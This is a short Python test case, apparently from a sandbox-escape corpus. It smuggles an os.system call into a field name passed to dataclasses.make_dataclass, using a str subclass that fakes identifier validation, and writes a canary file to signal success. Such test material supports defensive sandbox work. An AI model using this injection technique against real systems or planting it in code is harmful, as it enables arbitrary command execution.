# source: own
# effect: process
# caught: runtime

import dataclasses


class Name(str):
    def isidentifier(self):
        return True


poison = Name("a, *, k=__imp" + "ort__('os').system('echo code/dataclass_field_name > /tmp/canary/process')")
try:
    silent = dataclasses.field(init=False, repr=False, compare=False)
    dataclasses.make_dataclass("Made", [(poison, int, silent)])
except TypeError:
    pass
